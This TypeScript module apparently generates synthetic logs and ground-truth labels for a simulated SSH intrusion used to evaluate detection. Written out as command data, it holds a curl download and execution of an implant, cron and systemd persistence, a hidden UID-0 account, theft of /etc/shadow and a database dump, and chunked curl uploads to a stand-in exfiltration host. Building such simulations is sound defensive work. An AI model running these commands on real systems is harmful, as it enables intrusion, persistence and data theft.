// Scenario "ssh-intrusion": scan → SSH brute force → login → payload → four kinds of
// persistence → HTTPS beacon → re-entry with the planted key → lateral SSH to the database →
// staged, chunked exfiltration. Timings scale with the period so the whole chain fits in a
// 6-hour demo as well as in a week. Every emitted line and flow carries its step id.

import type { TruthStepDraft } from '../eval/truth';
import { exec, type Login, sshFailedPassword, sshLogin, sudo, systemdStart } from './actions';
import { connectEvent, fileWriteEvent, renameEvent, userRecord } from './audit-format';
import { probe, ufwBlock } from './benign-global';
import { type Ctx, ephemeralPort, tcpSession } from './ctx';
import type { Rng } from './prng';
import { iso } from './time-format';
import { type Host, hostOf } from './world';

const S = 1_000;
const MIN = 60_000;
const TOP_PORTS = [
  21, 22, 23, 25, 53, 80, 81, 110, 111, 113, 135, 139, 143, 179, 199, 389, 443, 445, 465, 514, 515, 548, 554, 587, 631, 646, 873, 990, 993, 995, 1025, 1026,
  1027, 1433, 1720, 1723, 1900, 2000, 2049, 2121, 2717, 3000, 3128, 3306, 3389, 3986, 4899, 5000, 5009, 5051, 5060, 5101, 5190, 5357, 5432, 5631, 5666, 5800,
  5900, 6000, 6001, 6646, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9100, 9999, 10000, 32768, 49152, 49153, 49154, 49155, 49156, 49157,
];

type Draft = Omit<TruthStepDraft, 'scenario' | 'start' | 'end'> & { start: number; end: number };

function draft(d: Draft): TruthStepDraft {
  return { ...d, scenario: 'ssh-intrusion', start: iso(d.start), end: iso(Math.max(d.start, d.end)) };
}

function shell(ctx: Ctx, host: Host, login: Login, t: number, argv: string[], step: string) {
  return exec(ctx, { host, t, argv, uid: login.uid, auid: login.uid, ses: login.ses, tty: login.tty, ppid: login.pid + 3, cwd: '/root', step });
}

export function sshIntrusion(ctx: Ctx, rng: Rng): TruthStepDraft[] {
  const { world } = ctx;
  const { sshAttacker: atk, payload, c2 } = world.attackers;
  const mail = hostOf(world, 'mail01');
  const db = hostOf(world, 'db01');
  const period = world.endMs - world.startMs;
  const steps: TruthStepDraft[] = [];
  const t0 = world.startMs + Math.floor((period * 0.1) / MIN) * MIN + rng.int(0, 59) * S;

  steps.push(
    draft({
      id: 'ssh-weaponize',
      stage: 'weaponization',
      technique: 'T1587.001',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: Math.max(world.startMs, t0 - 30 * MIN),
      end: t0 - MIN,
      note: "implant built and staged on the attacker's own infrastructure: no record exists on either side",
    }),
  );

  // Horizontal SYN scan of the DMZ /24 on 22/tcp (nmap -sS -p22 -T4): 254 addresses in ~90 s.
  const order = Array.from({ length: 254 }, (_, i) => i + 1)
    .map((n) => ({ n, k: rng.next() }))
    .sort((a, b) => a.k - b.k);
  let t = t0;
  for (const { n } of order) {
    const ip = `10.20.1.${n}`;
    probe(ctx, { host: world.byIp.get(ip), dstIp: ip, t, src: atk, sport: rng.int(40_000, 65_000), dport: 22, step: 'ssh-hscan' });
    t += rng.int(200, 500);
  }
  steps.push(
    draft({
      id: 'ssh-hscan',
      stage: 'recon',
      technique: 'T1595.001',
      host: mail.name,
      hostIp: mail.ip,
      peer: atk,
      start: t0,
      end: t,
      note: 'SYN sweep of 10.20.1.0/24 on 22/tcp (254 addresses, half-open: sshd never sees it)',
    }),
  );

  // Vertical scan of mail01 (nmap -F): closed ports are dropped by UFW, whose rate-limited LOG rule keeps ~10 lines.
  const v0 = t0 + 5 * MIN + rng.int(0, 30) * S;
  t = v0;
  let logged = 0;
  for (const port of TOP_PORTS.map((p) => ({ p, k: rng.next() }))
    .sort((a, b) => a.k - b.k)
    .map((x) => x.p)) {
    const sport = rng.int(40_000, 65_000);
    const p = { host: mail, dstIp: mail.ip, t, src: atk, sport, dport: port, step: 'ssh-vscan' };
    if (probe(ctx, p) && logged < 10) {
      ufwBlock(ctx, p);
      logged++;
    }
    t += rng.int(80, 300);
  }
  const grab = t + 90 * S;
  const gport = rng.int(40_000, 65_000);
  ctx.flow(tcpSession({ t: grab, durMs: 10_500, src: atk, sport: gport, dst: mail.ip, dport: 22, up: 0, down: 41, step: 'ssh-vscan' }));
  ctx.log(mail, grab + 10_400, 'auth', `sshd[${ctx.pidAt(mail, grab)}]: Did not receive identification string from ${atk} port ${gport}`, 'ssh-vscan');
  steps.push(
    draft({
      id: 'ssh-vscan',
      stage: 'recon',
      technique: 'T1046',
      host: mail.name,
      hostIp: mail.ip,
      peer: atk,
      start: v0,
      end: grab + 10_500,
      note: `${TOP_PORTS.length}-port SYN scan of mail01, then an SSH banner grab; UFW logs only its first 10 drops`,
    }),
  );

  // Brute force: 4 threads, one guess per connection, ~52 failures in about 4 minutes.
  const b0 = t0 + 25 * MIN;
  const users = ['root', 'root', 'root', 'root', 'admin', 'root', 'test', 'root', 'ubuntu', 'root', 'oracle', 'root', 'postgres'];
  const failures = rng.int(48, 56);
  for (let i = 0; i < failures; i++) {
    const tf = b0 + Math.floor(i / 4) * rng.int(15_500, 19_500) + (i % 4) * rng.int(200, 900);
    const user = users[i % users.length] ?? 'root';
    const valid = user === 'root' || user === 'postgres';
    const port = ephemeralPort(rng);
    const pid = ctx.pidAt(mail, tf, i);
    ctx.flow(
      tcpSession({
        t: tf,
        durMs: rng.int(2_600, 3_400),
        src: atk,
        sport: port,
        dst: mail.ip,
        dport: 22,
        up: rng.int(1_950, 2_150),
        down: rng.int(2_500, 2_700),
        step: 'ssh-bruteforce',
      }),
    );
    sshFailedPassword(ctx, { host: mail, t: tf + 300, pid, user, validUser: valid, from: atk, port, step: 'ssh-bruteforce' });
    ctx.log(
      mail,
      tf + 2_700,
      'auth',
      `sshd[${pid}]: Connection closed by ${valid ? 'authenticating user' : 'invalid user'} ${user} ${atk} port ${port} [preauth]`,
      'ssh-bruteforce',
    );
  }
  const tL = b0 + Math.ceil(failures / 4) * 17_500 + 2_000;
  steps.push(
    draft({
      id: 'ssh-bruteforce',
      // Credential Access → Exploitation in the default mapping (docs/ANCHORS.md#kill-chain-mapping).
      stage: 'exploitation',
      technique: 'T1110.001',
      host: mail.name,
      hostIp: mail.ip,
      peer: atk,
      start: b0,
      end: tL - 1_000,
      note: `${failures} failed passwords (mostly root) from one source, one guess per connection`,
    }),
  );

  // The guess that works, and the interactive session behind it.
  const lport = ephemeralPort(rng);
  const session = 12 * MIN;
  const login = sshLogin(ctx, { host: mail, t: tL, user: 'root', uid: 0, from: atk, port: lport, method: 'password', durationMs: session, step: 'ssh-login' });
  ctx.flow(
    tcpSession({
      t: tL - 600,
      durMs: session + 1_200,
      src: atk,
      sport: lport,
      dst: mail.ip,
      dport: 22,
      up: rng.int(60_000, 90_000),
      down: rng.int(150_000, 260_000),
      step: 'ssh-login',
    }),
  );
  shell(ctx, mail, login, tL + 35 * S, ['id'], 'ssh-login');
  shell(ctx, mail, login, tL + 41 * S, ['uname', '-a'], 'ssh-login');
  steps.push(
    draft({
      id: 'ssh-login',
      // A guessed valid account used to get in: Initial Access → Delivery.
      stage: 'delivery',
      technique: 'T1078.003',
      host: mail.name,
      hostIp: mail.ip,
      peer: atk,
      start: tL,
      end: tL + session,
      note: 'Accepted password for root right after the burst; 12-minute interactive session',
    }),
  );

  const td = tL + 2 * MIN;
  const curlArgv = ['curl', '-o', '/tmp/.x', `http://${payload}/x`];
  const curl = shell(ctx, mail, login, td, curlArgv, 'ssh-payload');
  ctx.audit(mail, td + 60, connectEvent(curl, curlArgv, payload, 80, true), 'ssh-payload');
  ctx.flow(
    tcpSession({ t: td + 60, durMs: 2_800, src: mail.ip, sport: ephemeralPort(rng), dst: payload, dport: 80, up: 420, down: 1_843_216, step: 'ssh-payload' }),
  );
  steps.push(
    draft({
      id: 'ssh-payload',
      stage: 'delivery',
      technique: 'T1105',
      host: mail.name,
      hostIp: mail.ip,
      peer: payload,
      start: td,
      end: td + 2_900,
      note: 'curl -o /tmp/.x from the staging server (1.8 MB inbound over HTTP)',
    }),
  );

  const tx = td + 30 * S;
  shell(ctx, mail, login, tx, ['chmod', '+x', '/tmp/.x'], 'ssh-exec');
  const implant = exec(ctx, {
    host: mail,
    t: tx + 6 * S,
    argv: ['/tmp/.x'],
    uid: 0,
    auid: 0,
    ses: login.ses,
    tty: login.tty,
    ppid: login.pid + 3,
    cwd: '/root',
    step: 'ssh-exec',
  });
  steps.push(
    draft({
      id: 'ssh-exec',
      stage: 'installation',
      technique: 'T1059.004',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: tx,
      end: tx + 6 * S,
      note: 'chmod +x and start of /tmp/.x from the root shell',
    }),
  );

  persistence(ctx, mail, login, tx + 90 * S, steps);

  // Beacon: one HTTPS connection every 60 s ± 10 %, near-constant sizes, until the period ends.
  // Emitted hour by hour (a week of beacons would otherwise sit in memory from the start).
  const c2Proc = { ...implant, tty: '(none)', ppid: 1 };
  const beaconRng = rng.fork('beacon');
  const c2Step = draft({
    id: 'ssh-c2',
    stage: 'c2',
    technique: 'T1071.001',
    host: mail.name,
    hostIp: mail.ip,
    peer: c2,
    start: tx + 20 * S,
    end: tx + 20 * S,
    note: '',
  });
  let tb = tx + 20 * S;
  let beacons = 0;
  ctx.everyHour((_from, to) => {
    for (; tb < Math.min(to, world.endMs - 2 * MIN); tb += Math.round(60_000 * (1 + beaconRng.float(-0.1, 0.1)))) {
      ctx.audit(mail, tb, connectEvent(c2Proc, ['/tmp/.x'], c2, 443), 'ssh-c2');
      ctx.flow(
        tcpSession({
          t: tb,
          durMs: beaconRng.int(280, 900),
          src: mail.ip,
          sport: ephemeralPort(beaconRng),
          dst: c2,
          dport: 443,
          up: beaconRng.int(1_320, 1_380),
          down: beaconRng.int(4_150, 4_260),
          step: 'ssh-c2',
        }),
      );
      c2Step.end = iso(tb + 900);
      c2Step.note = `${++beacons} HTTPS beacons, 60 s ± 10 % jitter, ~1.35 kB out / ~4.2 kB in each`;
    }
  });
  steps.push(c2Step);

  lateralAndExfil(ctx, rng, { mail, db, t: tL + Math.max(40 * MIN, Math.floor(period * 0.3)), steps });
  return steps;
}

function persistence(ctx: Ctx, mail: Host, login: Login, t: number, steps: TruthStepDraft[]): void {
  const cronLine = '*/10 * * * * /tmp/.x >/dev/null 2>&1';
  const ct = shell(ctx, mail, login, t, ['crontab', '-'], 'ssh-persist-cron');
  const tmp = '/var/spool/cron/crontabs/tmp.Xq3b9L';
  ctx.audit(mail, t + 20, fileWriteEvent(ct, ['crontab', '-'], '/root', tmp, 'wr_cron', true), 'ssh-persist-cron');
  ctx.audit(mail, t + 25, renameEvent(ct, ['crontab', '-'], '/root', tmp, '/var/spool/cron/crontabs/root', 'wr_cron'), 'ssh-persist-cron');
  ctx.log(mail, t + 26, 'syslog', `crontab[${ct.pid}]: (root) REPLACE (root)`, 'ssh-persist-cron');
  const reload = Math.ceil((t + 1_000) / MIN) * MIN + 1_000;
  ctx.log(mail, reload, 'syslog', `cron[${ctx.daemonPid(mail, 'cron')}]: (root) RELOAD (crontabs/root)`, 'ssh-persist-cron');
  steps.push(
    draft({
      id: 'ssh-persist-cron',
      stage: 'installation',
      technique: 'T1053.003',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: t,
      end: reload,
      note: `root crontab replaced: "${cronLine}"`,
    }),
  );

  const unit = '/etc/systemd/system/netplan-sync.service';
  const ts = t + 75 * 1_000;
  const shellProc = { ...ct, pid: login.pid + 3, ppid: login.pid + 2, comm: 'bash', exe: '/usr/bin/bash' };
  ctx.audit(mail, ts, fileWriteEvent(shellProc, ['-bash'], '/root', unit, 'wr_systemd', true), 'ssh-persist-systemd');
  shell(ctx, mail, login, ts + 20_000, ['systemctl', 'daemon-reload'], 'ssh-persist-systemd');
  ctx.log(mail, ts + 20_400, 'syslog', 'systemd[1]: Reloading.', 'ssh-persist-systemd');
  shell(ctx, mail, login, ts + 31_000, ['systemctl', 'enable', '--now', 'netplan-sync.service'], 'ssh-persist-systemd');
  systemdStart(ctx, { host: mail, t: ts + 31_500, unit: 'netplan-sync', description: 'Netplan configuration sync', step: 'ssh-persist-systemd' });
  steps.push(
    draft({
      id: 'ssh-persist-systemd',
      stage: 'installation',
      technique: 'T1543.002',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: ts,
      end: ts + 31_700,
      note: `${unit} created (PATH nametype=CREATE), enabled and started`,
    }),
  );

  const tu = ts + 2 * MIN;
  const ua = shell(ctx, mail, login, tu, ['useradd', '-o', '-u', '0', '-g', '0', '-M', '-d', '/root', '-s', '/bin/bash', 'sysupd'], 'ssh-persist-user');
  ctx.audit(mail, tu + 30, fileWriteEvent(ua, ['useradd', '-o', '-u', '0'], '/root', '/etc/passwd', 'wr_passwd', false), 'ssh-persist-user');
  ctx.log(
    mail,
    tu + 40,
    'auth',
    `useradd[${ua.pid}]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/${login.tty}`,
    'ssh-persist-user',
  );
  ctx.audit(
    mail,
    tu + 41,
    [
      userRecord(
        'ADD_USER',
        { pid: ua.pid, uid: 0, auid: 0, ses: login.ses },
        `op=add-user acct="sysupd" exe="/usr/sbin/useradd" hostname=${mail.name} addr=? terminal=${login.tty} res=success`,
      ),
    ],
    'ssh-persist-user',
  );
  const cp = shell(ctx, mail, login, tu + 9_000, ['chpasswd'], 'ssh-persist-user');
  ctx.log(mail, tu + 9_050, 'auth', `chpasswd[${cp.pid}]: pam_unix(chpasswd:chauthtok): password changed for sysupd`, 'ssh-persist-user');
  ctx.audit(
    mail,
    tu + 9_051,
    [
      userRecord(
        'USER_CHAUTHTOK',
        { pid: cp.pid, uid: 0, auid: 0, ses: login.ses },
        `op=PAM:chauthtok grantors=pam_pwquality,pam_permit,pam_unix acct="sysupd" exe="/usr/sbin/chpasswd" hostname=${mail.name} addr=? terminal=${login.tty} res=success`,
      ),
    ],
    'ssh-persist-user',
  );
  steps.push(
    draft({
      id: 'ssh-persist-user',
      stage: 'installation',
      technique: 'T1136.001',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: tu,
      end: tu + 9_051,
      note: 'useradd -o -u 0 sysupd: a second UID-0 account, password set with chpasswd',
    }),
  );

  const tk = tu + 70 * 1_000;
  ctx.audit(mail, tk, fileWriteEvent(shellProc, ['-bash'], '/root', '/root/.ssh/authorized_keys', 'wr_sshkeys', true), 'ssh-persist-key');
  steps.push(
    draft({
      id: 'ssh-persist-key',
      stage: 'installation',
      technique: 'T1098.004',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: tk,
      end: tk,
      note: 'attacker key appended to /root/.ssh/authorized_keys (a shell redirection: only the auditd watch sees it)',
    }),
  );

  // The cron entry keeps starting the implant (it exits when already running), every 10 minutes.
  const first = Math.ceil((t + MIN) / (10 * MIN)) * 10 * MIN;
  if (first >= ctx.world.endMs) return;
  const runs = draft({
    id: 'ssh-cron-runs',
    stage: 'installation',
    technique: 'T1053.003',
    host: mail.name,
    hostIp: mail.ip,
    peer: null,
    start: first,
    end: first,
    note: 'cron runs /tmp/.x every 10 minutes (CRON CMD lines and execve)',
  });
  let tc = first;
  ctx.everyHour((_from, to) => {
    for (; tc < Math.min(to, ctx.world.endMs); tc += 10 * MIN) {
      cronRun(ctx, mail, tc, 'ssh-cron-runs');
      runs.end = iso(tc + 6);
    }
  });
  steps.push(runs);
}

function cronRun(ctx: Ctx, host: Host, t: number, step: string): void {
  const pid = ctx.pidAt(host, t, 3);
  ctx.log(host, t + 5, 'syslog', `CRON[${pid}]: (root) CMD (/tmp/.x >/dev/null 2>&1)`, step);
  exec(ctx, {
    host,
    t: t + 6,
    argv: ['/bin/sh', '-c', '/tmp/.x >/dev/null 2>&1'],
    uid: 0,
    auid: 0,
    ses: ctx.nextSes(host),
    tty: '(none)',
    ppid: pid,
    cwd: '/root',
    pid: pid + 1,
    step,
  });
}

function lateralAndExfil(ctx: Ctx, rng: Rng, o: { mail: Host; db: Host; t: number; steps: TruthStepDraft[] }): void {
  const { mail, db, steps } = o;
  const { sshAttacker: atk, exfil } = ctx.world.attackers;
  const tR = o.t;
  const rport = ephemeralPort(rng);
  const stay = 45 * MIN;
  const back = sshLogin(ctx, {
    host: mail,
    t: tR,
    user: 'root',
    uid: 0,
    from: atk,
    port: rport,
    method: 'publickey',
    durationMs: stay,
    keyFp: 'Zr4m0qT8wB2xV6nK1cJ9hL3sP7dF5gA0yE2uR8tQw4o',
    step: 'ssh-reentry',
  });
  ctx.flow(
    tcpSession({
      t: tR - 500,
      durMs: stay + 1_000,
      src: atk,
      sport: rport,
      dst: mail.ip,
      dport: 22,
      up: rng.int(90_000, 140_000),
      down: rng.int(200_000, 400_000),
      step: 'ssh-reentry',
    }),
  );
  steps.push(
    draft({
      id: 'ssh-reentry',
      stage: 'exploitation',
      technique: 'T1078.003',
      host: mail.name,
      hostIp: mail.ip,
      peer: atk,
      start: tR,
      end: tR + stay,
      note: 'attacker returns with the planted key (Accepted publickey for root)',
    }),
  );

  const tl = tR + 3 * MIN;
  const lport = ephemeralPort(rng);
  const sshArgv = ['ssh', `root@${db.ip}`];
  const sshProc = shell(ctx, mail, back, tl, sshArgv, 'ssh-lateral');
  ctx.audit(mail, tl + 30, connectEvent(sshProc, sshArgv, db.ip, 22), 'ssh-lateral');
  ctx.flow(
    tcpSession({
      t: tl + 30,
      durMs: 8 * MIN,
      src: mail.ip,
      sport: lport,
      dst: db.ip,
      dport: 22,
      up: rng.int(20_000, 40_000),
      down: rng.int(30_000, 80_000),
      step: 'ssh-lateral',
    }),
  );
  const onDb = sshLogin(ctx, {
    host: db,
    t: tl + 6_000,
    user: 'root',
    uid: 0,
    from: mail.ip,
    port: lport,
    method: 'password',
    durationMs: 8 * MIN - 7_000,
    step: 'ssh-lateral',
  });
  steps.push(
    draft({
      id: 'ssh-lateral',
      stage: 'exploitation',
      technique: 'T1021.004',
      host: db.name,
      hostIp: db.ip,
      peer: mail.ip,
      start: tl,
      end: tl + 8 * MIN,
      note: 'SSH from the compromised mail01 to db01 as root with a reused password',
    }),
  );

  const tdump = tl + 2 * MIN;
  sudo(ctx, { login: onDb, host: db, t: tdump, argv: ['pg_dumpall', '-f', '/tmp/.d.sql'], runAs: { user: 'postgres', uid: 114 }, step: 'ssh-collect' });
  steps.push(
    draft({
      id: 'ssh-collect',
      stage: 'exploitation',
      technique: 'T1005',
      host: db.name,
      hostIp: db.ip,
      peer: null,
      start: tdump,
      end: tdump + 90 * S,
      note: 'pg_dumpall of every database to /tmp/.d.sql',
    }),
  );

  const tstage = tl + 12 * MIN;
  const dumpBytes = rng.int(140, 190) * 1_000_000;
  const sport = ephemeralPort(rng);
  const scpArgv = ['scp', `root@${db.ip}:/tmp/.d.sql`, '/tmp/.d.sql'];
  const scp = shell(ctx, mail, back, tstage, scpArgv, 'ssh-stage');
  ctx.audit(
    mail,
    tstage + 40,
    connectEvent(
      { ...scp, pid: scp.pid + 1, comm: 'ssh', exe: '/usr/bin/ssh' },
      ['/usr/bin/ssh', '-x', '-oPermitLocalCommand=no', '-oClearAllForwardings=yes', '-l', 'root', '--', db.ip, 'scp', '-f', '/tmp/.d.sql'],
      db.ip,
      22,
    ),
    'ssh-stage',
  );
  const xfer = Math.round(dumpBytes / 60_000);
  ctx.flow(
    tcpSession({
      t: tstage + 40,
      durMs: xfer + 3_000,
      src: mail.ip,
      sport,
      dst: db.ip,
      dport: 22,
      up: Math.round(dumpBytes / 250),
      down: dumpBytes,
      step: 'ssh-stage',
    }),
  );
  const scpLogin = sshLogin(ctx, {
    host: db,
    t: tstage + 900,
    user: 'root',
    uid: 0,
    from: mail.ip,
    port: sport,
    method: 'password',
    durationMs: xfer + 1_500,
    step: 'ssh-stage',
  });
  exec(ctx, {
    host: db,
    t: tstage + 1_500,
    argv: ['scp', '-f', '/tmp/.d.sql'],
    uid: 0,
    auid: 0,
    ses: scpLogin.ses,
    tty: '(none)',
    ppid: scpLogin.pid + 2,
    cwd: '/root',
    step: 'ssh-stage',
  });
  steps.push(
    draft({
      id: 'ssh-stage',
      stage: 'exploitation',
      technique: 'T1074.002',
      host: mail.name,
      hostIp: mail.ip,
      peer: db.ip,
      start: tstage,
      end: tstage + xfer + 3_040,
      note: `scp pulls the ${Math.round(dumpBytes / 1e6)} MB dump from db01 to mail01`,
    }),
  );

  const ta = tstage + xfer + 2 * MIN;
  shell(ctx, mail, back, ta, ['tar', 'czf', '/tmp/.a.tgz', '/tmp/.d.sql', '/etc/shadow', '/etc/postfix', '/var/mail'], 'ssh-archive');
  shell(ctx, mail, back, ta + 70 * S, ['split', '-b', '25M', '/tmp/.a.tgz', '/tmp/.p.'], 'ssh-archive');
  steps.push(
    draft({
      id: 'ssh-archive',
      stage: 'exploitation',
      technique: 'T1560.001',
      host: mail.name,
      hostIp: mail.ip,
      peer: null,
      start: ta,
      end: ta + 70 * S,
      note: 'tar czf of the dump, shadow and mail spool, split into 25 MB parts',
    }),
  );

  const archive = Math.round(dumpBytes * 0.62);
  const chunks = Math.ceil(archive / 26_214_400);
  let te = ta + 3 * MIN;
  const t1 = te;
  for (let i = 0; i < chunks; i++) {
    const size = i < chunks - 1 ? 26_214_400 : archive - 26_214_400 * (chunks - 1);
    const part = `/tmp/.p.a${'abcdefghij'[i] ?? 'z'}`;
    const argv = ['curl', '-sk', '-T', part, `https://${exfil}/upload/`];
    const c = shell(ctx, mail, back, te, argv, 'ssh-exfil');
    ctx.audit(mail, te + 50, connectEvent(c, argv, exfil, 443, true), 'ssh-exfil');
    const dur = Math.round(size / 2_500) + rng.int(500, 2_000);
    ctx.flow(
      tcpSession({
        t: te + 50,
        durMs: dur,
        src: mail.ip,
        sport: ephemeralPort(rng),
        dst: exfil,
        dport: 443,
        up: size + rng.int(3_000, 6_000),
        down: rng.int(5_000, 9_000),
        step: 'ssh-exfil',
      }),
    );
    te += dur + rng.int(90, 240) * S;
  }
  steps.push(
    draft({
      id: 'ssh-exfil',
      stage: 'actions',
      technique: 'T1030',
      host: mail.name,
      hostIp: mail.ip,
      peer: exfil,
      start: t1,
      end: te,
      note: `${chunks} uploads of ≤ 25 MiB each (${Math.round(archive / 1e6)} MB total) with curl -T over HTTPS to one external peer`,
    }),
  );
}
